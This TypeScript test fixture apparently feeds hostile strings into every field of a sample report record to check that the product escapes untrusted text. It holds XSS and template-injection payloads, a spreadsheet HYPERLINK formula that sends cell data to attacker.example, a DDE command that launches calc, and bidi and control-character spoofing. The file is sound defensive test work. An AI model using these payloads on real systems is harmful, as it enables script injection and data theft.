import { mapStrings } from '../../spec/json.ts';
import type { Outcome } from '../../spec/types/brief.ts';
import type { Movement } from '../../spec/types/movement.ts';
import type { Finding, ScenarioResult, TaskResult } from '../../spec/types/verdict.ts';
import type { Rehearsal } from '../rehearsal.ts';
import { movement } from './sample-parts.ts';
import { sampleRehearsal } from './sample-rehearsal.ts';

/** Hostile texts that a product or its users could put into evidence. */
export const payloads = {
  script: '<script>window.hit = 1; alert(1)</script><img src=x onerror="window.hit = 1">',
  attribute: '"\'><svg onload=alert(1)><a href="javascript:alert(1)">x</a></pre></details></style></title>',
  template: '{{ constructor.constructor("return 1")() }}{% raw %}{# x #}',
  request: '<link rel=stylesheet href=https://attacker.example/a.css><iframe src=https://attacker.example/></iframe>',
  xml: ']]></failure></testcase><testcase name="x"/><!-- -- > <?pi?> <!ENTITY a "b"> &amp; &a; &#38;',
  markdown:
    '| pipe | ` tick ``` \\| **bold** [x](https://attacker.example) ![i](https://attacker.example/i.png) # - 1.',
  mention: '@team/security fixes #1 GH-2 https://attacker.example www.attacker.example a@b.example :tada: $x$ ~~no~~',
  bidi: 'safe \u202e\u2066dessap\u2069\u202c \u200b\u200f\ufeff\u00ad end',
  control: 'a\u0000b\u0007c\u001b[31mred\u001b[0m\u001b]8;;https://attacker.example\u0007link\u009b2J\u007f\rz',
  surrogate: 'lone \ud800 high, \udc00 low, \uffff and \ufffe',
  lines: 'one\n\n# two\n\r\n<!--\n| three |\n```\n\u2028four',
  formula: '=HYPERLINK("https://attacker.example/?"&A1,"x")',
  command: "@SUM(1+1)*cmd|'/C calc'!A0",
  tab: '\t=1+1',
  carriage: '\r\n=1+1;-2+3',
  long: 'long'.repeat(1_000),
} as const;
export type Payload = keyof typeof payloads;
export const payloadNames = Object.keys(payloads) as Payload[];

/** The payloads in groups, for tests in a browser: those that could run something stand alone. */
export const payloadGroups: readonly (readonly Payload[])[] = [
  ['script'],
  ['attribute'],
  ['request'],
  ['template', 'xml', 'markdown', 'mention', 'lines', 'formula', 'command', 'tab', 'carriage'],
  ['bidi', 'control', 'surrogate', 'long'],
];

/** Returns the payloads as one text. */
export function hostileText(...names: readonly Payload[]): string {
  return names.map((name) => `${payloads[name]} `).join('');
}

/** Returns the sample with one text wherever the product or a file can supply text. Closed sets and times stay. */
export function hostileRehearsal(...names: readonly Payload[]): Rehearsal {
  const bad = hostileText(...names);
  const prefix = (text: string) => bad + text;
  const all = <T>(value: T): T => mapStrings(value, prefix, prefix);
  const { settings, contract, environment, scenarios, exchanges } = sampleRehearsal;
  return {
    ...sampleRehearsal,
    product: { name: bad, version: bad },
    signatory: { name: bad, role: bad },
    settings: { ...settings, driver: bad },
    contract: { ...mapStrings(contract, prefix), overlayHashes: all(contract.overlayHashes) },
    environment: mapStrings(environment, prefix),
    scenarios: scenarios.map((result) => hostileResult(result, bad)),
    selfDeclarations: [
      { requirement: bad, question: bad, answer: bad, evidence: bad },
      { requirement: bad, question: bad, answer: null, evidence: null },
    ],
    exchanges: exchanges.map((exchange) => ({
      ...exchange,
      clientId: bad,
      request: {
        ...exchange.request,
        method: bad,
        url: bad,
        headers: all(exchange.request.headers),
        body: { json: { [bad]: bad } },
      },
      response: { ...exchange.response, headers: all(exchange.response.headers), body: { text: bad } },
      notes: [{ kind: 'defect', text: bad, source: bad }],
    })),
  };
}

function hostileResult(result: ScenarioResult, bad: string): ScenarioResult {
  const finding: Finding = { text: bad, field: bad, expected: bad, found: bad };
  const warning: Finding = { ...finding, level: 'warning' };
  const step = { text: bad, met: false, finding };
  return {
    ...result,
    title: bad,
    category: { ...result.category, area: bad },
    checker: { status: 'Fail', message: bad },
    given: [step],
    then: [step],
    findings: [finding, warning, finding],
    difference: bad,
    wasteTrackingIds: [bad],
    exchanges: [1, 2, 7, 8, 99],
    tasks: hostileActs(bad),
    declaration: { kind: 'blocked', reason: bad, evidence: bad },
    history: [{ exchange: 1, at: '2027-01-18T09:41:07.120Z', verdict: 'fail' }],
  };
}

/** Creates one task of each action, with one outcome, several and none. */
function hostileActs(bad: string): TaskResult[] {
  const head = { version: 1 as const, scenario: { id: 'R01', title: bad, given: [bad] } };
  const receipt = { ...movement, yourUniqueReference: bad, [bad]: bad } satisfies Movement;
  const outcome: Outcome = { outcome: 'failed', wasteTrackingId: bad, messages: [bad, bad] };
  const unusedFaults: TaskResult['unusedFaults'] = [
    { on: 'issueToken', client: bad, times: 'always', fault: { kind: 'status', status: 503, retryAfter: bad } },
    { on: 'receiveMovement', times: 2, fault: { kind: 'status', status: 500, body: { [bad]: bad } } },
  ];
  const rest = { after: 0, until: 1, problem: null, unusedFaults };
  return [
    { ...rest, brief: { ...head, action: 'submit', movement: receipt }, outcomes: [outcome] },
    { ...rest, brief: { ...head, action: 'submit-all', movements: [receipt] }, outcomes: Array(5).fill(outcome) },
    {
      ...rest,
      brief: { ...head, action: 'update', movement: receipt, wasteTrackingId: bad },
      outcomes: null,
      problem: bad,
    },
  ];
}
